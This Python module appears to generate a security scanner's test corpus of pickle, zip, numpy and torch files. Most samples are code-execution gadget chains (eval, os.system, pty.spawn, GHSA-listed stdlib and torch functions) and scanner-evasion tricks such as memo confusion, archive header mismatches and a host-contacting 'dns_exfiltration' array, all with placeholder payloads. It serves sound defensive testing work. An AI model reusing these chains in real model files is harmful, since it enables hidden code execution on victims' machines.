"""picklescan (MIT, github.com/mmaitre314/picklescan): tests/test_scanner.py and the files that
tests/init_data_files.py writes into tests/data and tests/data2, rebuilt opcode by opcode.

Labels follow the test's expected ``infected_files`` (1 = malicious, 0 = benign). Payload strings
are replaced by harmless ones (see ``peer_corpus.Payload``); modules, names, protocols and opcode
shapes are the peer's.
"""

from __future__ import annotations

import pickle
import struct
from collections import OrderedDict
from collections.abc import Callable

from peer_corpus import Payload, PeerSample
from peer_corpus import asm as a
from peer_corpus._files import (
    blob,
    np_save,
    npy_object,
    set_zip_flags,
    seven_zip_bytes,
    torch_save,
    zip_bytes,
    zipcrypto_bytes,
)

TS = "tests/test_scanner.py"
FILE_PATH = f"{TS}::test_scan_file_path"
ASSERT = f"{TS}::test_scan_file_path (assert_scan)"


def _s(sid: str, source: str, description: str, name: str, make: Callable[[Payload], bytes]) -> PeerSample:
    return PeerSample(f"picklescan/{sid}", source, description, blob(name, make))


def _eval(p: Payload, protocol: int, module: str = "builtins") -> bytes:
    return a.call(module, "eval", [p.expr], protocol)


def _malicious0(p: Payload) -> bytes:
    # Sour Pickles (BH US 2011): globals(), compile(), eval(), getattr(dict, 'get'), apply(...)
    return (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(" + a.text_str(p.py + ";picklesmashed=1")
            + b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n("
            b"c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\n"
            b"ltRp104\n0g104\n.")


def _memo_stack_global(p: Payload, tail: bytes = b"") -> bytes:
    # imaginaryctf 'Safe Pickle': names pass through PUT/GET so a naive scanner pairs the wrong strings
    u = pickle.UNICODE
    return b"".join([u + b"os\n", pickle.PUT + b"2\n", pickle.POP, u + b"system\n", pickle.PUT + b"3\n",
                     pickle.POP, u + b"torch\n", pickle.PUT + b"0\n", pickle.POP, u + b"LongStorage\n",
                     pickle.PUT + b"1\n", pickle.POP, pickle.GET + b"2\n", pickle.GET + b"3\n",
                     pickle.STACK_GLOBAL, pickle.MARK, u + p.cmd.encode() + b"\n", pickle.TUPLE, pickle.REDUCE,
                     pickle.STOP, tail])


def _malicious12(p: Payload) -> bytes:
    # operator.attrgetter('system')(__import__('os'))(cmd), every value memoised
    m = pickle.MEMOIZE
    body = (a.ustr("operator") + m + a.ustr("attrgetter") + m + pickle.STACK_GLOBAL + m + a.ustr("system") + m
            + pickle.TUPLE1 + m + pickle.REDUCE + m + a.ustr("builtins") + m + a.ustr("__import__") + m
            + pickle.STACK_GLOBAL + m + a.ustr("os") + m + pickle.TUPLE1 + m + pickle.REDUCE + m + pickle.TUPLE1 + m
            + pickle.REDUCE + m + a.ustr(p.cmd) + m + pickle.TUPLE1 + m + pickle.REDUCE + m)
    return a.proto(4) + body + pickle.STOP


def _malicious13(protocol: int) -> Callable[[Payload], bytes]:
    # pickle.loads(_codecs.encode('I12345\n.', 'latin1')): a nested pickle (harmless inner value)
    def make(_: Payload) -> bytes:
        if protocol == 0:
            return (a.global_("pickle", "loads") + pickle.MARK + a.global_("_codecs", "encode") + pickle.MARK
                    + a.unicode0("I12345\n.") + a.unicode0("latin1") + b"tRtR.")
        return a.wrap(a.stack_global("_pickle", "loads") + a.value(b"I12345\n.", 4) + pickle.TUPLE1 + pickle.REDUCE, 4)
    return make


def _malicious15(protocol: int) -> Callable[[Payload], bytes]:
    # bdb.Bdb().run(code): NEWOBJ of Bdb, BUILD of its state, then the bound method is reduced
    def make(p: Payload) -> bytes:
        state = a.value({"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None}, protocol)
        if protocol < 4:
            obj = a.global_("__builtin__", "getattr") + a.global_("bdb", "Bdb") + pickle.EMPTY_TUPLE \
                + pickle.NEWOBJ + state + pickle.BUILD + a.value("run", protocol) + pickle.TUPLE2 + pickle.REDUCE
        else:
            obj = a.stack_global("bdb", "Bdb.run") + a.stack_global("bdb", "Bdb") + pickle.EMPTY_TUPLE \
                + pickle.NEWOBJ + state + pickle.BUILD + pickle.TUPLE1 + pickle.REDUCE
        return a.wrap(obj + a.value(p.py, protocol) + pickle.TUPLE1 + pickle.REDUCE, protocol)
    return make


def _malicious19(_: Payload) -> bytes:
    # functools.partial(torch.serialization.load, 'some_other_model.bin', pickle_file=..., weights_only=False)
    body = (a.stack_global("functools", "partial") + a.stack_global("torch.serialization", "load")
            + pickle.TUPLE1 + pickle.REDUCE + pickle.MARK + a.stack_global("torch.serialization", "load")
            + a.value(("some_other_model.bin",), 4) + a.value({"pickle_file": "config.json", "weights_only": False}, 4)
            + pickle.NONE + pickle.TUPLE + pickle.BUILD + pickle.EMPTY_TUPLE + pickle.REDUCE)
    return a.wrap(body, 4)


def _sys_module_override(p: Payload) -> bytes:
    # torch._utils.__dict__ is updated so that a later GLOBAL resolves builtins.eval under torch._utils
    v = pickle.UNICODE
    return (a.proto(4) + v + b"torch._utils\n" + pickle.MEMOIZE + v + b"_rebuild_tensor\n" + pickle.MEMOIZE
            + pickle.STACK_GLOBAL + pickle.MEMOIZE + pickle.POP + v + b"torch\n" + v + b"_utils\n"
            + pickle.STACK_GLOBAL + pickle.MEMOIZE + pickle.POP + b"h\x03}h\x01" + v + b"builtins\n" + b"sb0"
            + b"h\x00h\x01\x93h\x03}h\x01" + v + b"eval\n" + b"sb0h\x00h\x01\x93" + a.unicode0(p.expr)
            + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP)


def _magic_bypass(p: Payload) -> bytes:
    # legacy torch stream whose magic number comes from eval(), then a payload pickle
    out = a.wrap(a.global_("__builtin__", "eval") + a.value("0x1950A86A20F9469CFC6C", 2) + pickle.TUPLE1
                 + pickle.REDUCE, 2)
    out += pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)
    out += a.call("posix", "system", [p.cmd], 2) + pickle.dumps(None, protocol=2)
    return out


def _keyerror(p: Payload, type_confusion: bool) -> bytes:
    body = a.global_("os", "system") + a.unicode0(p.cmd) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
    if type_confusion:
        body += pickle.BININT + struct.pack("<i", 42) + pickle.MEMOIZE + a.ustr("os") + pickle.MEMOIZE \
            + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01"
    else:
        body += a.ustr("os") + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00"
    return a.proto(4) + body + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42" + pickle.STOP


def _codetype(p: Payload) -> bytes:
    # types.CodeType(...) built from a real code object's fields (the payload is never called)
    code = compile(p.py, "<dynamic_code>", "exec")
    args = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize,
            code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename,
            code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable, code.co_exceptiontable)
    return a.call("types", "CodeType", list(args), 4)  # type: ignore[arg-type]


def _cloudpickle(p: Payload) -> bytes:
    import cloudpickle

    def obfuscated_eval(payload: str) -> object:
        return getattr(__builtins__, "eval")(payload)  # noqa: B009 - mirrors the peer's obfuscation

    class EvilCall:
        def __reduce__(self) -> tuple[object, ...]:
            return obfuscated_eval, (p.expr,)

    return cloudpickle.dumps(EvilCall(), protocol=5)


def _legacy_torch(_: Payload) -> bytes:
    import torch

    return torch_save(OrderedDict(w=torch.zeros(4), b=torch.ones(2)), legacy=True)


def _zip_torch(_: Payload) -> bytes:
    import torch

    return torch_save(OrderedDict(w=torch.zeros(4), b=torch.ones(2)))


def _np(obj: Callable[[], object]) -> Callable[[Payload], bytes]:
    return lambda _: np_save(obj())


def _npz(compressed: bool, objects: bool) -> Callable[[Payload], bytes]:
    def make(_: Payload) -> bytes:
        import io

        import numpy as np

        arrays = ({"a": np.array([{"x": 1}, "b"], dtype=object), "b": np.array([[1], "c"], dtype=object)}
                  if objects else {"a": np.arange(6), "b": np.arange(3)})
        buf = io.BytesIO()
        (np.savez_compressed if compressed else np.savez)(buf, **arrays)
        return buf.getvalue()
    return make


def _dns_exfil(p: Payload) -> bytes:
    # an object array whose element is ssl.get_server_certificate((host, port)), inside numpy's own reduce
    body = (a.stack_global("numpy._core.multiarray", "_reconstruct") + a.stack_global("numpy", "ndarray")
            + a.value(0, 4) + pickle.TUPLE1 + a.value(b"b", 4) + pickle.TUPLE3 + pickle.REDUCE + pickle.MARK
            + a.value(1, 4) + a.value((1,), 4) + a.stack_global("numpy", "dtype") + a.value(("O8", False, True), 4)
            + pickle.REDUCE + a.value((3, "|", None, None, None, -1, -1, 63), 4) + pickle.BUILD + pickle.NEWFALSE
            + pickle.EMPTY_LIST + a.call_body("ssl", "get_server_certificate", [(p.host, 9)], 4) + pickle.APPEND
            + pickle.TUPLE + pickle.BUILD)
    return npy_object(a.wrap(body, 4))


def _simple(sid: str, module: str, name: str, args: Callable[[Payload], list[a.Value]], protocol: int = 4,
            source: str = ASSERT, fname: str | None = None) -> PeerSample:
    return _s(sid, source, f"{module}.{name}(...) via REDUCE, protocol {protocol}", fname or f"{sid}.pkl",
              lambda p: a.call(module, name, args(p), protocol))


_CODE = lambda p: [p.py]  # noqa: E731 - the GHSA pickles pass one code string

GHSA_CODE = [  # (advisory, module, qualname): each called with a Python code string
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText"),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run"),
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile"),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof"),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run"),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx"),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity"),
    ("GHSA-7wx9-6375-f5wh", "profile", "run"),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get"),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx"),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity"),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode"),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run"),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script"),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx"),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode"),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef"),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip"),
]

GHSA_CMD = [  # (advisory, module, qualname): each called with a shell command
    ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output"),
    ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream"),
    ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output"),
    ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout"),
]


def samples() -> list[PeerSample]:
    out = [
        *(_s(f"benign0_v{v}", f"{TS}::test_scan_file_path / test_scan_directory_path", "['a','b','c'] list",
             f"benign0_v{v}.pkl", lambda _, v=v: a.dumps(["a", "b", "c"], v)) for v in (0, 3, 4)),
        *(_s(f"malicious1_v{v}", FILE_PATH, f"eval(code) via REDUCE, protocol {v}", f"malicious1_v{v}.pkl",
             lambda p, v=v: _eval(p, v, "__builtin__" if v == 0 else "builtins")) for v in (0, 3, 4)),
        *(_s(f"malicious2_v{v}", FILE_PATH, f"posix.system(cmd) via REDUCE, protocol {v}", f"malicious2_v{v}.pkl",
             lambda p, v=v: a.call("posix", "system", [p.cmd], v)) for v in (0, 3, 4)),
        _s("malicious0", FILE_PATH, "Sour Pickles chain: globals/compile/eval/getattr/apply with memo",
           "malicious0.pkl", _malicious0),
        _simple("malicious3", "httplib", "HTTPSConnection", lambda p: [p.host], 0, FILE_PATH),
        _simple("malicious4", "requests.api", "get", lambda p: [p.url], 4, FILE_PATH, "malicious4.pickle"),
        _simple("malicious5", "aiohttp.client", "ClientSession", lambda p: [], 4, FILE_PATH, "malicious5.pickle"),
        _s("malicious6", FILE_PATH, "benign pickle followed by a second pickle calling requests.api.get",
           "malicious6.pkl", lambda p: a.dumps(["a", "b", "c"], 4) + a.call("requests.api", "get", [p.url], 4)),
        _simple("malicious7", "socket", "create_connection", lambda p: [(p.host, 9)], 4, FILE_PATH),
        _simple("malicious8", "subprocess", "run", lambda p: [["touch", str(p.marker)]], 4, FILE_PATH),
        _simple("malicious9", "sys", "exit", lambda p: [0], 4, FILE_PATH),
        _s("malicious10", FILE_PATH, "INST opcode calling __builtin__.exec", "malicious10.pkl",
           lambda p: b"(" + a.text_str(p.py) + b"i__builtin__\nexec\n."),
        _s("malicious11", f"{TS}::test_scan_directory_path", "UNICODE names through PUT/GET then STACK_GLOBAL "
           "(os.system) with decoy torch.LongStorage strings", "malicious11.pkl", _memo_stack_global),
        _s("malicious-invalid-bytes", f"{TS}::test_invalid_bytes_err", "malicious11 followed by junk bytes after STOP",
           "malicious-invalid-bytes.pkl", lambda p: _memo_stack_global(p, b"\n\n\t\t")),
        _s("malicious12", f"{TS}::test_scan_directory_path", "operator.attrgetter('system')(__import__('os'))(cmd)",
           "malicious12.pkl", _malicious12),
        _s("malicious13a", f"{TS}::test_scan_directory_path", "pickle.loads(_codecs.encode(...)) nested pickle, "
           "protocol 0", "malicious13a.pkl", _malicious13(0)),
        _s("malicious13b", f"{TS}::test_scan_directory_path", "_pickle.loads(b'...') nested pickle, protocol 4",
           "malicious13b.pkl", _malicious13(4)),
        _simple("malicious14", "runpy", "_run_code", lambda p: [p.py, {}], 4, FILE_PATH),
        _s("malicious15a", f"{TS}::test_scan_directory_path", "getattr(bdb.Bdb(), 'run')(code), protocol 2",
           "malicious15a.pkl", _malicious15(2)),
        _s("malicious15b", f"{TS}::test_scan_directory_path", "bdb.Bdb.run(Bdb(), code) via dotted STACK_GLOBAL",
           "malicious15b.pkl", _malicious15(4)),
        _simple("malicious16", "pip", "main", lambda p: [["--version"]],
                0, f"{TS}::test_scan_directory_path"),
        _simple("malicious17", "torch._inductor.codecache", "compile_file",
                lambda p: ["", "", ["sh", "-c", p.cmd]], 4, f"{TS}::test_scan_directory_path"),
        _simple("malicious18", "pydoc", "pipepager", lambda p: ["", p.cmd], 4, f"{TS}::test_scan_directory_path"),
        _s("malicious19", f"{TS}::test_scan_directory_path", "functools.partial(torch.serialization.load, ...) with "
           "weights_only=False in BUILD state", "malicious19.pkl", _malicious19),
        _simple("malicious20", "venv", "create", lambda p: [f"$({p.cmd})"], 4, f"{TS}::test_scan_directory_path"),
        _simple("malicious21", "timeit", "timeit", lambda p: ["", p.py], 4, FILE_PATH),
        _simple("malicious22", "numpy.testing._private.utils", "runstring", lambda p: [p.py, {}], 4, FILE_PATH),
        _s("malicious23", FILE_PATH, "protocol-0 STRING names then STACK_GLOBAL os.system (GHSA-9gvj-pp9x-gcfr)",
           "malicious23.pkl", lambda p: a.text_str("os") + a.text_str("system") + pickle.STACK_GLOBAL
           + a.text_str(p.cmd) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP),
        _s("broken_model", f"{TS}::test_scan_directory_path", "GLOBAL builtins.exec then a truncated BINUNICODE",
           "broken_model.pkl", lambda p: b"cbuiltins\nexec\n(X>\n" + p.py.encode() + b"tRX."),
        _s("sys_module_override_sploit", f"{TS}::test_scan_directory_path", "BUILD on torch._utils module dict "
           "re-points a name to builtins.eval", "sys_module_override_sploit.pkl", _sys_module_override),
        _s("pytorch_magic_bypass", f"{TS}::test_scan_pytorch", "legacy torch stream: magic number from eval(), "
           "posix.system in a later pickle", "pytorch_magic_bypass.pt", _magic_bypass),
        _s("malicious1.zip", FILE_PATH, "zip with data.pkl calling eval", "malicious1.zip",
           lambda p: zip_bytes([("data.pkl", _eval(p, 4))])),
        _s("malicious1_central_directory", FILE_PATH, "zip whose local header names 'datap.kl', central 'data.pkl'",
           "malicious1_central_directory.zip",
           lambda p: zip_bytes([("data.pkl", _eval(p, 4))]).replace(b"data.pkl", b"datap.kl", 1)),
        _s("malicious1_crc", ASSERT, "zip member with a CRC mismatch (payload byte changed after zipping)",
           "malicious1_crc.zip", _crc_broken),
        *(_s(f"malicious1_{hex(f)}", FILE_PATH, f"zip with general-purpose flag {hex(f)} set on a plain member",
             f"malicious1_{hex(f)}.zip", lambda p, f=f: set_zip_flags(zip_bytes([("model/config.pkl",
                                                                                   _eval(p, 4))]), f))
          for f in (0x1, 0x20, 0x40)),
        _s("malicious1_wrong_ext", FILE_PATH, "zip member data.txt holding a pickle", "malicious1_wrong_ext.zip",
           lambda p: zip_bytes([("data.txt", _eval(p, 4))])),
        _s("malicious1.7z", FILE_PATH, "7z archive with data.pkl calling eval", "malicious1.7z",
           lambda p: seven_zip_bytes("data.pkl", _eval(p, 4))),
        _s("benign_password_protected", f"{TS}::test_scan_directory_path", "ZipCrypto-encrypted text member",
           "benign_password_protected.zip", lambda _: zipcrypto_bytes("test.txt", b"hello\n", b"password")),
        _s("bad_pytorch", FILE_PATH, "PNG signature in a .pt file", "bad_pytorch.pt", lambda _: b"\211PNG\r\n\032\n"),
        _s("not_a_pickle", f"{TS}::test_not_a_pickle_file", "'c' then invalid UTF-8: not a pickle", "not_a_pickle.bin",
           lambda _: b"cmod\n\xf8\n"),
        _s("pytorch_model", f"{TS}::test_scan_pytorch", "legacy (non-zip) torch.save of an OrderedDict of tensors",
           "pytorch_model.bin", _legacy_torch),
        _s("new_pytorch_model", f"{TS}::test_scan_pytorch", "zip torch.save of an OrderedDict of tensors",
           "new_pytorch_model.bin", _zip_torch),
        _s("int_array", f"{TS}::test_scan_numpy", "int .npy", "int_array.npy",
           _np(lambda: __import__("numpy").arange(8))),
        _s("object_array", f"{TS}::test_scan_numpy", "object-dtype .npy of plain values", "object_array.npy",
           _np(lambda: __import__("numpy").array([{"a": 1}, "b", 3], dtype=object))),
        *(_s(f"{'object' if o else 'int'}_arrays{'_compressed' if c else ''}", f"{TS}::test_scan_file_path_npz",
             f"{'object' if o else 'int'} arrays in {'compressed ' if c else ''}.npz",
             f"{'object' if o else 'int'}_arrays{'_compressed' if c else ''}.npz", _npz(c, o))
          for o in (False, True) for c in (False, True)),
        _s("dns_exfiltration", f"{TS}::test_scan_numpy", "object .npy whose element is ssl.get_server_certificate(...)",
           "dns_exfiltration.npy", _dns_exfil),
        _s("keyerror-exploit", ASSERT, "os.system call, then STACK_GLOBAL from a missing memo key",
           "keyerror-exploit.pkl", lambda p: _keyerror(p, False)),
        _s("type-confusion-exploit", ASSERT, "os.system call, then STACK_GLOBAL of (42, 'os') from memo",
           "type-confusion-exploit.pkl", lambda p: _keyerror(p, True)),
        _s("GHSA-955r-x9j8-7rhh", ASSERT, "_operator.methodcaller('system', cmd)(__import__('os'))",
           "GHSA-955r-x9j8-7rhh.pkl", lambda p: b"cbuiltins\n__import__\n(" + a.unicode0("os") + b"tRp0\n0"
           + b"c_operator\nmethodcaller\n(" + a.unicode0("system") + a.unicode0(p.cmd) + b"tR(g0\ntR."),
        _s("GHSA-46h3-79wf-xr6c", ASSERT, "_operator.attrgetter('system')(__import__('os'))(cmd)",
           "GHSA-46h3-79wf-xr6c.pkl", lambda p: b"cbuiltins\n__import__\n(" + a.unicode0("os") + b"tRp0\n0"
           + b"c_operator\nattrgetter\n(" + a.unicode0("system") + b"tR(g0\ntR(" + a.unicode0(p.cmd) + b"tR."),
        _s("GHSA-84r2-jw7c-4r5q", ASSERT, "operator.methodcaller('system', cmd)(pydoc.locate('os'))",
           "GHSA-84r2-jw7c-4r5q.pkl", lambda p: a.wrap(a.call_body("operator", "methodcaller", ["system", p.cmd], 4)
                                                       + a.call_body("pydoc", "locate", ["os"], 4) + pickle.TUPLE1
                                                       + pickle.REDUCE, 4)),
        _s("GHSA-jhph-76pp-mggw", ASSERT, "torch.utils.collect_env.run_and_read_all(run, code)",
           "GHSA-jhph-76pp-mggw.pkl", lambda p: a.wrap(a.stack_global("torch.utils.collect_env", "run_and_read_all")
                                                       + a.stack_global("torch.utils.collect_env", "run")
                                                       + a.value(p.cmd, 4) + pickle.TUPLE2 + pickle.REDUCE, 4)),
        _simple("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", lambda p: [None]),
        _simple("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", lambda p: [p.py, 0]),
        _simple("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", lambda p: [b"(" + b"." ]),
        _simple("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
                lambda p: ["pickle", b"."]),
        _simple("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", lambda p: [str(p.marker), ["x"]]),
        _simple("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start",
                lambda p: [None, p.cmd, True, None, None, None, 0]),
        _simple("GHSA-jgw4-cr84-mqxg", "asyncio.unix_events", "_UnixSubprocessTransport._start",
                lambda p: [None, p.cmd, True, None, None, None, 0], fname="GHSA-jgw4-cr84-mqxg.bin"),
        _simple("GHSA-vqmv-47xg-9wpr", "pty", "spawn", lambda p: [["/bin/sh", "-c", p.cmd]]),
        _simple("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config",
                lambda p: [None, b"."]),
        _simple("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", lambda p: ["os:system"]),
        _simple("GHSA-g38g-8gr9-h9xp-pyrepl-pager", "_pyrepl.pager", "pipe_pager", lambda p: ["text", p.cmd]),
        _simple("GHSA-g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok",
                lambda p: ["-c", p.py]),
        _simple("io_FileIO", "_io", "FileIO", lambda p: [str(p.marker), "w"]),
        _simple("logging_FileHandler", "logging", "FileHandler", lambda p: [str(p.marker)]),
        _simple("urllib_request_urlopen", "urllib.request", "urlopen", lambda p: [p.url]),
        _s("types_CodeType", ASSERT, "types.CodeType(...) built from a compiled payload", "types_CodeType.pkl",
           _codetype),
        _s("cloudpickle_codeinjection", ASSERT, "cloudpickle _make_function/_builtin_type(CodeType) reconstructing a "
           "function that calls eval", "cloudpickle_codeinjection.pkl", _cloudpickle),
        _s("url_pickle_benign", f"{TS}::test_scan_url", "dict {'a':0,'b':1,'c':2}", "benign.pkl",
           lambda _: pickle.dumps({"a": 0, "b": 1, "c": 2})),
        _s("url_zip_benign", f"{TS}::test_scan_url", "zip with data.pkl holding a dict", "benign.zip",
           lambda _: zip_bytes([("data.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2}))])),
        _s("url_pickle_malicious", f"{TS}::test_scan_url", "os.system(cmd) at the default protocol", "malicious.pkl",
           lambda p: a.call("posix", "system", [p.cmd], pickle.DEFAULT_PROTOCOL)),
        _s("hf_archive_data_pkl", f"{TS}::test_scan_huggingface_model", "zip with archive/data.pkl calling eval",
           "pytorch_model.bin", lambda p: zip_bytes([("archive/data.pkl", _eval(p, pickle.DEFAULT_PROTOCOL))])),
        _s("counter_strict_only", f"{TS}::test_scan_pickle_bytes_strict", "collections.Counter([1,2,3]) "
           "(suspicious only in --strict)", "counter.pkl", lambda _: a.call("collections", "Counter", [[1, 2, 3]],
                                                                            pickle.DEFAULT_PROTOCOL)),
    ]
    out += [_simple(adv, mod, name, _CODE) for adv, mod, name in GHSA_CODE]
    out += [_simple(adv, mod, name, lambda p: [p.cmd]) for adv, mod, name in GHSA_CMD]
    return out


def _crc_broken(p: Payload) -> bytes:
    data = bytearray(zip_bytes([("data.pkl", _eval(p, 4))]))
    pos = data.find(b"close()")
    data[pos + 5] = ord("(") if data[pos + 5] != ord("(") else ord("[")
    return bytes(data)
